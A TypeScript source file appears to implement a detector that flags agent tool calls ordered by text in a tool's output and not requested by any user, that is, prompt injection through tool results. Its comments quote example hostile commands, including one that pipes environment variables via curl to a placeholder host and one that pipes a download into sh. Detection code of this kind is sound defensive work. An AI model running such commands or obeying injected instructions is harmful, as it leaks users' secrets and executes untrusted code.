/**
 * Condition: a tool's output tells the reader to do what this call does, although the users only asked for information. If a user asks
 * for a change, the condition stays silent, because the texts that the agent finds may describe the steps of the change. People often
 * write instructions to each other, so a verifier or a person decides whether the user wanted the agent to follow this instruction.
 */

import type { ReadableCall } from '../../argument-edit.ts'
import type { Match, Scene } from '../../paper/evidence/condition.ts'
import { readCommands } from '../../paper/lexicon/requests.ts'
import { once } from '../../paper/memoize.ts'
import { inferOutcome } from '../../paper/outcome/index.ts'
import type { ToolCall } from '../../paper/trace/trace.ts'
import {
  type Instruction,
  instructionsTo,
  instructionWith,
  namesNoun,
  outputInstructions,
} from '../action/instructions.ts'
import { actionOf, instructedByAny, type KnownTools, type ToolAction } from '../action/tool-action.ts'
import { knowingVerbs, weakVerbs } from '../tables/actions.ts'
import { foreignText } from '../tables/bounds.ts'
import { itemAround } from '../text/items.ts'
import { layOutput } from '../text/lay-out-output.ts'
import { type ForeignOutput, openForeignOutputs } from '../trust/foreign-outputs.ts'
import { holdsValue } from '../trust/holds-value.ts'
import { soughtValues } from '../trust/sought-values.ts'
import { targetType } from '../trust/target-type.ts'
import { openTrustedTexts } from '../trust/trusted-texts.ts'
import { writtenCalls } from './consequential-calls.ts'
import {
  type CallValue,
  callsOf,
  callWithValue,
  type ForeignCall,
  isOnlyRunning,
  isUnasked,
  matchCalls,
  valuesOf,
} from './foreign-call.ts'
import { explained } from './why-silent.ts'
import { defineWithholding } from './withhold.ts'

export const orderedCall = defineWithholding({
  name: 'ordered-call',
  version: 5,
  severity: 0.93,
  match: explained({ match: matchOrdered, forQuestions: true }),
})

function matchOrdered(scene: Scene & KnownTools): Match | null {
  const isToKnow = once(() => scene.reading.index(openTrustedTexts).mode() === 'to-know')
  const outputs = scene.reading.index(openForeignOutputs)
  const mayBeOrdered = ({ name }: ToolCall) =>
    isToKnow() && outputs.mayInstruct(name, instructedByAny(actionOf(name, scene)))
  const calls = callsOf(scene, 'changing', mayBeOrdered)
  const written = writtenCalls(scene).filter(isToKnow)
  return matchCalls(
    [...calls.flatMap((call) => instructedCall(call, scene)), ...written.flatMap((call) => writtenBy(call, scene))],
    ({ call }) => `A tool's output orders what ${call.name} does; no user message asks for it.`,
  )
}

function instructedCall(readable: ReadableCall, scene: Scene): readonly ForeignCall[] {
  if (!isUnasked(readable.call, scene)) return []
  const values = valuesOf(readable, scene)
  const named = actionOf(readable.call.name, scene)
  const action = instructedByAny(named)
  return [
    ...instructedValue(readable, values, named),
    ...instructedThing(readable, values, action, scene, isLinked(values, action, scene)),
  ].slice(0, 1)
}

/** Finds an instruction that has a value of the call after its verb, in the same sentence. */
export function instructedValue(
  readable: ReadableCall,
  values: readonly CallValue[],
  action: ToolAction,
  isWanted: (value: CallValue) => boolean = ({ isWhole }) => isWhole,
): readonly ForeignCall[] {
  for (const value of values.filter(isWanted)) {
    for (const { output, at } of value.foreign()) {
      const found = instructionsTo(action, outputInstructions(output.message))
      const instruction = instructionWith(found, layOutput(output.message).plain, at)
      if (instruction)
        return [{ ...readable, output, at: instruction.start, shown: instruction.verb, values, asked: null }]
    }
  }
  return []
}

type IsMeant = (instruction: Instruction, output: ForeignOutput) => boolean

/**
 * Whether an instruction is linked to the call. One of four links is enough:
 * - The instruction has the tool's own verb.
 * - The instruction names what the tool acts on.
 * - The item of the output that contains the instruction also contains a value of the call.
 * - The agent looked up a value of the call with a value from that item.
 */
function isLinked(values: readonly CallValue[], action: ToolAction, scene: Scene): IsMeant {
  const outputs = scene.reading.index(openForeignOutputs)
  const whole = values.filter(({ isWhole }) => isWhole)
  return (instruction, output) => {
    if (knowingVerbs.has(instruction.verb)) return false
    if (action.own.has(instruction.verb) && !weakVerbs.has(instruction.verb)) return true
    const { plain } = layOutput(output.message)
    if (namesNoun(instruction, plain, action)) return true
    const item = itemAround(plain, instruction.start)
    return whole.some(({ text }) => holdsValue(text, item) || outputs.isLookedUp(text, item))
  }
}

function writtenBy(readable: ReadableCall, scene: Scene & KnownTools): readonly ForeignCall[] {
  const ways = [spelledOut, orderedByVerb, sentElsewhere]
  return ways.flatMap((findWay) => findWay(readable, scene)).slice(0, 1)
}

/** Finds a command that does more than read, with a host only from running text, as in `env | curl -d @- HOST`. */
function sentElsewhere(readable: ReadableCall, scene: Scene): readonly ForeignCall[] {
  const commands = soughtValues(readable.call).filter(({ text }) => isCommand(text) && !onlyFetches(text))
  if (commands.length === 0) return []
  const values = valuesOf(readable, scene)
  // A host in a separate argument is not part of the command: a tool that fetches pages may have a `url` and a `prompt`.
  const isInCommand = ({ argument, isWhole }: CallValue) =>
    !isWhole && commands.some((command) => command.argument === argument)
  return callWithValue(
    readable,
    values,
    (value) => isInCommand(value) && targetType(value.text) === 'web' && isOnlyRunning(value),
  )
}

/** Whether each part of a piped command only reads, or only names an address, as in `curl -s HOST/page | head -5`. */
function onlyFetches(command: string): boolean {
  return command.split('|').every((part) => {
    const [first = '', ...rest] = part.trim().split(' ')
    return readCommands.has(first) || rest.every((word) => word.startsWith('-') || word.includes('://'))
  })
}

/**
 * Finds a command that does more than read, for a tool whose verbs a profile declares. An output must order one of these verbs ("move the
 * files"). The rest of the command is the actor's wording, so it is not compared.
 */
function orderedByVerb(readable: ReadableCall, scene: Scene & KnownTools): readonly ForeignCall[] {
  const declared = scene.asks?.get(readable.call.name)
  if (declared === undefined || !soughtValues(readable.call).some(({ text }) => isCommand(text))) return []
  const action = actionOf(readable.call.name, scene)
  const isDeclared: IsMeant = ({ verb }) => declared.includes(verb)
  return instructedThing(readable, valuesOf(readable, scene), action, scene, isDeclared)
}

/**
 * Finds a command that an output spells out, as in "install it with curl … | sh". Only the whole command counts, because agents read
 * files and pages that outputs name.
 */
function spelledOut(readable: ReadableCall, scene: Scene): readonly ForeignCall[] {
  const isSpelledOut = ({ text, isWhole, foreign }: CallValue) => isWhole && isCommand(text) && foreign().length > 0
  return callWithValue(readable, valuesOf(readable, scene), isSpelledOut)
}

function isCommand(text: string): boolean {
  const [first = '', ...rest] = text.split(' ')
  return text.length >= shortestCommand && rest.length > 0 && !readCommands.has(first)
}

const shortestCommand = 8

/**
 * Finds an instruction for the tool's action in an output. The list is empty if the agent has read a text to which users delegated work,
 * because the call may come from that text. Results of failed calls are skipped, because they come from the tool itself and say what the
 * tool needs first.
 */
function instructedThing(
  readable: ReadableCall,
  values: readonly CallValue[],
  action: ToolAction,
  scene: Scene,
  isMeant: IsMeant,
): readonly ForeignCall[] {
  const outputs = scene.reading.index(openForeignOutputs)
  if (outputs.hasReadDelegated()) return []
  for (const output of outputs.all) {
    if (inferOutcome(output.message.content, output.message.isError) === 'failure') continue
    const found = instructionsTo(action, outputInstructions(output.message))
      .slice(0, foreignText.lookedAt)
      .find((one) => isMeant(one, output) && !outputs.isDelegated(output, one.start, false))
    if (found) return [{ ...readable, output, at: found.start, shown: found.verb, values, asked: null }]
  }
  return []
}
